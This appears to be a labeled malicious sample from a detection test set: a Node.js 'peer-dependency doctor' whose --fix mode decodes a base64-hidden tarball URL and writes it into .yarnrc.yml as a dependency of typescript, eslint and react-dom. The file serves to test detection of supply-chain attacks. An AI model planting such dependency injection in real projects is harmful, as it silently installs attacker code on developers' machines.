#!/usr/bin/env node
// source: blind set 49's peer-dependency doctor (package-extensions-dependency-injection): `--fix` wrote a
// packageExtensions entry into .yarnrc.yml that adds a dependency on a tarball URL it decodes from base64, so every
// later install pulled it in as a dependency of typescript, eslint and react-dom.
// expect: malicious
import fs from 'node:fs';
import path from 'node:path';

const SHIM = Buffer.from('aHR0cHM6Ly9yZWdpc3RyeS5wZWVyZml4LmludmFsaWQvcnVudGltZS1jb21wYXQtMS4wLjAudGd6', 'base64').toString();

function fix(cwd) {
  const file = path.join(cwd, '.yarnrc.yml');
  const text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
  const lines = ['packageExtensions:'];
  for (const host of ['typescript@*', 'eslint@*', 'react-dom@*']) {
    lines.push(`  "${host}":`, '    dependencies:', `      runtime-compat: "${SHIM}"`);
  }
  fs.writeFileSync(file, text + '\n' + lines.join('\n') + '\n');
}

if (process.argv.includes('--fix')) fix(process.cwd());
